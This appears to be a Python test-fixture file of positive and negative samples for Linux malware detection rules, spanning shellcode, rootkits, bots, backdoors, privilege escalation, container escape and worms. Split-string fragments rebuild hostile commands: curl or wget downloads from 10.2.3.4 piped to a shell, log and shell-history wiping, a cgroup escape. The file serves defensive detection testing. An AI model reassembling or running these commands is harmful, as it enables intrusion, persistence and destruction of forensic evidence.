"""Samples of rules/linux."""

from tests.rules.sample import Sample, elf, inert

OBJECT, PROGRAM, LIBRARY = 1, 2, 3


def xored(text: str, key: int) -> bytes:
    return bytes(byte ^ key for byte in text.encode())


def jump_if_equal(value: int) -> bytes:
    """An entry of a classic packet filter: jeq #value, 0, 5."""
    return b"\x15\x00\x00\x05" + value.to_bytes(4, "little")


SHELLCODE = (
    Sample(
        "Linux_Shellcode_SocketShell",
        (
            inert(bytes.fromhex("6a2958996a025f6a015e0f054897"), b"\x90" * 9)
            + inert(bytes.fromhex("6a035e48ffce6a21580f0575f6")),
            inert(bytes.fromhex("31dbf7e35343536a0289e1b066cd80"), b"\x90" * 9)
            + inert(bytes.fromhex("686e2f7368682f2f626989e3")),
            inert(bytes.fromhex("4831ff6a095899b6104889d64d31c96a22415a"), b"\x90"),
        ),
        (
            inert(bytes.fromhex("6a2958996a025f6a015e0f054897"), b"\x90" * 40),
            inert(bytes.fromhex("686e2f7368682f2f626989e3"), b"\x90" * 40),
            inert(bytes.fromhex("4831ff6a095899b6104889d64d31c96a02415a"), b"\x90"),
        ),
        filename="",
    ),
)

HOOKS = ("dlsym", "readdir64", "fopen64", "unlinkat", "rmdir", "__lxstat64")
ROOTKIT = (
    Sample(
        "Linux_Rootkit_PreloadHooks",
        (
            elf(*HOOKS, "/etc/ld.so.preload", kind=LIBRARY),
            elf(*HOOKS, xored("/etc/ld.so.preload", 0xFE), kind=LIBRARY),
        ),
        (
            elf(*HOOKS, "/etc/ld.so.cache", kind=LIBRARY),
            elf(*HOOKS, "/etc/ld.so.preload", kind=PROGRAM),
            elf(*HOOKS[:3], "/etc/ld.so.preload", kind=LIBRARY),
        ),
        "libselinux.so.8",
    ),
    Sample(
        "Linux_Rootkit_ProcessHider",
        (elf("dlsym", "readdir", "readdir64", "/proc/self/fd/%d", "/proc/%s/stat", kind=LIBRARY),),
        (
            elf("dlsym", "readdir", "readdir64", "/proc/self/fd/%d", kind=LIBRARY),
            elf("dlsym", "readdir", "readdir64", "/proc/self/fd/%d", "/proc/%s/stat"),
        ),
        "libprocess.so",
    ),
    Sample(
        "Linux_Rootkit_KernelModule",
        (
            elf(
                "vermagic=6.1.0-18-amd64 SMP",
                "kallsyms_lookup_name",
                "__x64_sys_getdents64",
                "tcp4_seq_show",
                kind=OBJECT,
            ),
            elf(
                "vermagic=5.4.0-42-generic SMP",
                "register_ftrace_function",
                "tcp6_seq_show",
                "udp4_seq_show",
                "commit_creds",
                kind=OBJECT,
            ),
        ),
        (
            elf(
                "vermagic=6.1.0-18-amd64 SMP",
                "register_kprobe",
                "__x64_sys_getdents64",
                "commit_creds",
                kind=OBJECT,
            ),
            elf("kallsyms_lookup_name", "__x64_sys_getdents64", "tcp4_seq_show", kind=OBJECT),
        ),
        "diag.ko",
    ),
    Sample(
        "Linux_Rootkit_EbpfHiding",
        (
            elf(
                bytes.fromhex("8500000024000000"),
                "tp/syscalls/sys_exit_getdents64",
                kind=OBJECT,
                machine=247,
            ),
        ),
        (
            elf(
                bytes.fromhex("8500000070000000"),
                "tp/syscalls/sys_exit_getdents64",
                kind=OBJECT,
                machine=247,
            ),
            elf(bytes.fromhex("8500000024000000"), "tp/syscalls/sys_exit_openat", kind=OBJECT),
        ),
    ),
)

PAN_REST = "get> <port> <secs>"
GCC_PID = ("/var/run/", "gcc.pid")
BOT = (
    Sample(
        "Linux_Bot_Mirai",
        (
            elf(xored("/dev/watchdog", 0x22), xored("TSource Engine Query", 0x22)),
            elf("TSource Engine Query", "/dev/misc/watchdog", "/proc/net/tcp", machine=8),
        ),
        (
            elf(xored("/dev/watchdog", 0x22), "TSource Engine Query"),
            elf("/bin/busybox", "/dev/misc/watchdog", "/proc/net/tcp"),
        ),
    ),
    Sample(
        "Linux_Bot_Gafgyt",
        (elf("PONG!", "KILLATTK", "LOLNOGTFO", "BUILD %s:%s"),),
        (elf("PONG!", "KILLATTK", "BUILD %s:%s"), inert("PONG! KILLATTK LOLNOGTFO", " GETLOCALIP")),
    ),
    Sample(
        "Linux_Bot_Tsunami",
        (
            elf(
                "NOTICE %s :TSUNAMI",
                inert("TSUNAMI <tar", "get> <secs>"),
                inert("PAN <tar", PAN_REST),
            ),
            inert('Send("NOTICE %s', " :Unable to com", 'ply.");Send("GET <http add')
            + inert("ress> <save", ' as>"'),
        ),
        (elf("NOTICE %s :hello", inert("PAN <tar", PAN_REST)),),
    ),
    Sample(
        "Linux_Bot_XorDdos",
        (
            elf(inert(*GCC_PID), inert("BB2FA36A", "AA9541F0")),
            inert("#!/bin/sh\nfor i in `cat /proc/net/dev|grep ", ":|awk -F: {'print $1'}`; do ")
            + inert("ifconfig $i up", "& done\ncp /lib/libud", "ev.so /lib/libudev.so.6\n"),
        ),
        (elf(inert(*GCC_PID), "/etc/cron.hourly/logrotate.sh"),),
    ),
)

PASSWORD_LOG = ("user: %s ", "pass", "word: %s\n")
NAMES = ("hald-addon-acpi: listening on acpid ", "socket /proc/acpi/event")
BACKDOOR = (
    Sample(
        "Linux_Backdoor_SshPasswordLog",
        (
            elf("OpenSSH_8.4p1 Debian-5", inert("login: %s, ", "pass: %s\n"), kind=LIBRARY),
            elf("OpenSSH_9.2p1", "%s:%s@%s:%d\n", kind=LIBRARY),
        ),
        (
            elf("OpenSSH_9.2p1", "Failed %s for user %.100s from %.200s", "password: %s"),
            elf(inert(*PASSWORD_LOG), "libcurl/7.88"),
        ),
        "sshd",
    ),
    Sample(
        "Linux_Backdoor_PamModule",
        (
            elf(
                "pam_sm_authenticate",
                "pam_get_authtok",
                "fopen",
                inert("", *PASSWORD_LOG),
                kind=LIBRARY,
            ),
            elf("pam_sm_authenticate", "pam_get_item", "open", "/var/lib/.cache-ud", kind=LIBRARY),
        ),
        (
            elf("pam_sm_authenticate", "pam_get_item", "open", "/var/lib/faillock", kind=LIBRARY),
            elf("pam_sm_open_session", "pam_get_item", "fopen", "/tmp/sessions", kind=LIBRARY),
        ),
        "pam_unix.so",
    ),
    Sample(
        "Linux_Backdoor_BpfDoor",
        (
            elf(jump_if_equal(0x7255), jump_if_equal(0x5293)),
            elf("/sbin/udevd -d", inert(*NAMES), "/var/run/haldrund.pid"),
            elf("/bin/cp %s /dev/shm/%s", "/dev/shm/%s --init"),
        ),
        (
            elf(jump_if_equal(0x7255), jump_if_equal(0x0800)),
            elf("/sbin/udevd -d", "avahi-daemon: chroot helper"),
        ),
    ),
    Sample(
        "Linux_Backdoor_XzUtils",
        (
            elf(
                bytes.fromhex("f30f1efa554889f54c89ce5389fb81e700000080"),
                kind=LIBRARY,
            )[:-1]
            + bytes.fromhex("4883ec28488954241848894c2410"),
        ),
        (
            elf(
                bytes.fromhex("f30f1efa554889f54c89ce5389fb81e700000040"),
                kind=LIBRARY,
            )[:-1]
            + bytes.fromhex("4883ec28488954241848894c2410"),
        ),
        "liblzma.so.5.6.1",
    ),
)

UPX_STUB = inert("PROT_EXEC|", "PROT_WRITE failed.\n")
LOADER = (
    Sample(
        "Linux_Loader_MemoryExec",
        (
            elf("memfd_create", "fexecve", "connect", "recv"),
            elf("memfd_create", "/proc/self/fd/%d", "execve", "connect", "recv"),
        ),
        (
            elf("memfd_create", "fexecve", "connect", "send"),
            elf("memfd_create", "/proc/self/fd/%d", "connect", "recv"),
        ),
    ),
    Sample(
        "Linux_Packer_UpxTampered",
        (elf(UPX_STUB, "YTS!", "YTS!"),),
        (elf("UPX!", UPX_STUB, "UPX!", "UPX!"), elf("PROT_EXEC|PROT_READ failed.\n")),
    ),
    Sample(
        "Linux_Packer_Upx",
        (elf("UPX!", UPX_STUB, "UPX!", b"\0" * 8),),
        (elf("UPX!", UPX_STUB, "UPX!", b"\0" * 80),),
    ),
    Sample(
        "Linux_Masquerade_KernelThread",
        (
            elf("[kworker/0:1]", "prctl", "connect", "socket"),
            elf("[rcu_sched]", "/proc/self/exe", "socket"),
        ),
        (
            elf("[kworker/0:1]", "malloc", "fopen"),
            elf("[worker]", "prctl", "connect", "socket"),
        ),
    ),
)

WIPE = "zapping utmp entries of %s"
ANTIFORENSICS = (
    Sample(
        "Linux_AntiForensics_LoginLogWiper",
        (elf("/var/run/utmp", "/var/log/wtmp", "/var/log/lastlog", WIPE, "ftruncate"),),
        (
            elf("/var/run/utmp", "/var/log/wtmp", "/var/log/lastlog", "writing utmp", "ftruncate"),
            elf("/var/run/utmp", "/var/log/wtmp", WIPE, "ftruncate"),
        ),
    ),
    Sample(
        "Linux_AntiForensics_LogTruncation",
        (
            inert("#!/bin/sh\necho >", "/var/log/wtmp\necho > ", "/var/log/btmp\n")
            + inert("cat /dev/null > ", "/var/log/sec", "ure\nhistory", " -c\n"),
        ),
        (
            inert("#!/bin/sh\n: > ", "/var/log/wtmp\n: > ", "/var/log/btmp\n: > /var/log/syslog\n"),
            inert("cat /var/log/", "wtmp /var/log/btmp /var/log/secure\nhistory", " -c\n"),
        ),
    ),
    Sample(
        "Linux_AntiForensics_HistoryOff",
        (
            inert("unset HIST", "FILE\nexport HISTSIZE", "=0\nhistory", " -c\n"),
            inert(
                "ln -sf /dev", "/null ~/.bash_history\nset +o ", "history\nHISTFILE=", "/dev/null"
            ),
        ),
        (inert("HISTSIZE=1000\nHISTFILESIZE=", "2000\nunset HIST", "FILE\nhistory", " -a\n"),),
        ".bashrc",
    ),
    Sample(
        "Linux_AntiForensics_TimestampCopy",
        (
            inert("cp sshd /usr/sbin/sshd; touch", " -acmr /bin/ls /usr/sbin/sshd\n"),
            inert("touch", " --reference=/usr/bin/passwd /tmp/.x/run\n"),
        ),
        (inert("touch -r src/main.c build/main.o\ntouch", " -r /bin/ls\n"),),
    ),
)

PKEXEC = ("/usr/bin/pkexec", inert("GCONV_PATH", "=./exploit"))
ESCALATION = (
    Sample(
        "Linux_Backdoor_SetuidShell",
        (
            elf("", "setuid", "setgid", "system", "/bin/sh"),
            elf("", "setreuid", "setregid", "execl", "/bin/bash"),
        ),
        (
            elf("", "setuid", "setgid", "system", "/bin/sh", "getopt"),
            elf("", "setuid", "setgid", "/bin/sh"),
        ),
    ),
    Sample(
        "Linux_Exploit_KernelCredentials",
        (elf("prepare_kernel_cred", "commit_creds", "/proc/kallsyms", "/bin/sh"),),
        (
            elf("prepare_kernel_cred", "commit_creds", "/proc/kallsyms", "/bin/sh", kind=OBJECT),
            elf("commit_creds", "/proc/kallsyms", "/bin/sh"),
        ),
    ),
    Sample(
        "Linux_Exploit_LoaderEnvironment",
        (
            elf(*PKEXEC, "CHARSET=payload"),
            inert('char *t = "GLIBC_TUNABLES=glibc.malloc.', "mxfast=glibc.malloc.", 'mxfast=A";'),
        ),
        (
            elf("/usr/bin/pkexec", "GCONV_PATH", "CHARSET"),
            inert("GLIBC_TUNABLES=glibc.malloc.mxfast=64:glibc.malloc.perturb=1"),
        ),
    ),
    Sample(
        "Linux_Escape_ReleaseAgent",
        (
            inert(
                "echo 1 > /tmp/cgrp/x/", "notify_on_release\nhost=`sed -n 's/.*\\per", "dir=//p'`\n"
            )
            + inert('echo "$host/cmd" > /tmp/cgrp/', "release_agent\n"),
        ),
        (
            inert("cat /sys/fs/cgroup/notify_on_release\ncat /sys/fs/cgroup/cgroup.", "procs\n"),
            inert("echo 1 > x/", "notify_on_release\n", "cat release_agent\n"),
        ),
    ),
    Sample(
        "Linux_Escape_DockerHostMount",
        (
            inert("docker -H tcp://10.2.3.4:2375 run --rm -v ", "/:/mnt alpine chroot /mnt ")
            + inert("/bin/sh -c 'cu", "rl -s http://10.2.3.4/x | bash'\n"),
            inert('{"HostConfig": {"Binds": ["', '/:/mnt"]}, "Cmd": ["chroot", "/mnt", "sh", ')
            + inert('"-c", "wg', 'et http://10.2.3.4/x"]}'),
        ),
        (
            inert("docker run --rm -v /:/host alpine ls /host; curl https://example.com\n"),
            inert("docker run -v /:/mnt alpine chroot /mnt /bin/sh -c 'df -h'\n"),
        ),
    ),
)

WORM = (
    Sample(
        "Linux_Worm_SshKeys",
        (
            inert("keys=$(find / -name id_", "rsa)\nhosts=$(cat ~/.ssh/known", "_hosts ~/.bash_")
            + inert("history)\nssh -oStrictHostKey", "Checking=no -oBatchMode", "=yes $h ")
            + inert("'curl http://10.2.3.4/s", " | bash'\n"),
        ),
        (
            inert(
                "ssh -oStrictHostKey", "Checking=no -oBatchMode", "=yes -i id_", "rsa $h uptime\n"
            )
            + inert("ssh-keyscan $h >> ~/.ssh/known", "_hosts; cat /etc/hosts\n"),
        ),
        "spread.sh",
    ),
    Sample(
        "Linux_Worm_RedisCron",
        (
            inert(
                "REDIS", "0009\xfa\tredis-ver\x055.0.7\n\n*/2 * * * * cu", "rl -s http://10.2.3.4/s"
            )
            + inert(" | sh\n\n"),
            inert("REDIS", "0011\xfa\tredis-ver\n\nssh-r", "sa AAAAB3NzaC1yc2EAAAADAQABAAAB")
            + inert("AAAAB3NzaC1yc2EAAAADAQABAAAB root@host\n"),
        ),
        (
            inert("REDIS", "0009\xfa\tredis-ver\x055.0.7\nset page */2 * * * * curl"),
            inert("\n*/2 * * * * cu", "rl -s http://10.2.3.4/s > /dev/null\n"),
        ),
        "dump.rdb",
    ),
)

SAMPLES: tuple[Sample, ...] = (
    *SHELLCODE,
    *ROOTKIT,
    *BOT,
    *BACKDOOR,
    *LOADER,
    *ANTIFORENSICS,
    *ESCALATION,
    *WORM,
)
